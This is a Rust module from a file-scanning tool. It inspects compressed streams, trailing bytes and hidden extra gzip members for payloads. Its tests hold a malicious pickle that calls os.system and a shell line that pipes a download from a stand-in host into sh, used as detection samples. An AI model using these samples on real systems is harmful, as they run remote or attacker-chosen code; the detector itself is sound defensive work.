//! Compressed streams: what they hold is content of its own.

use proofhouse_artifact::stream::Codec;
use proofhouse_artifact::{ArtifactError, Format};

use super::payload;
use crate::content::executable;
use crate::scanner::{Content, Scanner};

pub(crate) fn scan(scanner: &mut Scanner<'_>, content: &Content<'_>, codec: Codec) -> u64 {
    let unpacked = match codec.unpack(content.bytes, scanner.decompressed_left) {
        Ok(unpacked) => unpacked,
        Err(error @ ArtifactError::Limit { .. }) => {
            scanner.overflown();
            scanner.unpacks_more("stream/budget", content.place.clone(), error.to_string());
            return 0;
        }
        Err(error) => {
            scanner.report("stream/broken", content.place.clone(), error.to_string());
            return 0;
        }
    };
    scanner.decompressed_left = scanner.decompressed_left.saturating_sub(unpacked.bytes.len() as u64);
    let size = content.bytes.len() as u64;
    if unpacked.trailing > 0 {
        let message = format!("{} bytes follow the {codec} stream: some readers see them", unpacked.trailing);
        scanner.report("stream/trailing", content.at(size - unpacked.trailing), message);
    }
    // The name is the stream's own: what runs by its name runs when it is unpacked, too.
    let stem = content.name().rsplit_once('.').map_or(content.name(), |(stem, _)| stem).to_owned();
    let name = match &content.place.member {
        Some(outer) => format!("{outer}!{stem}"),
        None => stem,
    };
    let mut place = content.place.clone().within(name);
    place.offset = None;
    let format = Format::detect(&unpacked.bytes);
    let inner = Content { bytes: &unpacked.bytes, format, place, depth: content.depth + 1 };
    super::scan(scanner, &inner);
    members(scanner, &inner, &unpacked.members);
    size - unpacked.trailing
}

/// Members behind the first, which some readers take for one content with it, and others for one of its own.
fn members(scanner: &mut Scanner<'_>, content: &Content<'_>, ends: &[usize]) {
    /// Members that are looked into.
    const MOST: usize = 16;
    let mut looked = 0;
    for (number, pair) in ends.windows(2).enumerate() {
        let [from, to] = *pair else { continue };
        let bytes = content.bytes.get(from..to).unwrap_or_default();
        let Some(what) = payload::kind(bytes).or_else(|| executable(bytes)) else { continue };
        let name = content.place.member.as_deref().unwrap_or_default();
        let place = content.place.clone().within(format!("{name}!member {}", number + 2));
        let message = format!("a stream behind the first one holds {what}: some readers stop before it");
        scanner.report("stream/trailing", place.clone(), message);
        looked += 1;
        if looked > MOST {
            return;
        }
        let inner = Content { bytes, format: Format::detect(bytes), place, depth: content.depth + 1 };
        super::scan(scanner, &inner);
    }
}

#[cfg(test)]
mod tests {
    use std::io::Write as _;

    use crate::{Limits, Outcome, scan_bytes};

    #[test]
    fn every_member_is_content() {
        let packed = |bytes: &[u8]| {
            let mut out = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
            out.write_all(bytes).unwrap();
            out.finish().unwrap()
        };
        let scan = |second: &[u8]| {
            let bytes = [packed(b"the\nof\nand\n"), packed(second)].concat();
            scan_bytes(&"words.txt.gz".parse().unwrap(), &bytes, &Limits::default()).outcome
        };
        assert_eq!(scan(b"more\nwords\n"), Outcome::Clean);
        assert_eq!(scan(b"\x80\x04cos\nsystem\n\x8c\x04true\x85R."), Outcome::Malicious);
        assert!(scan(b"#!/bin/sh\ncurl https://a.example.invalid/x | sh\n") >= Outcome::Suspicious);
    }
}
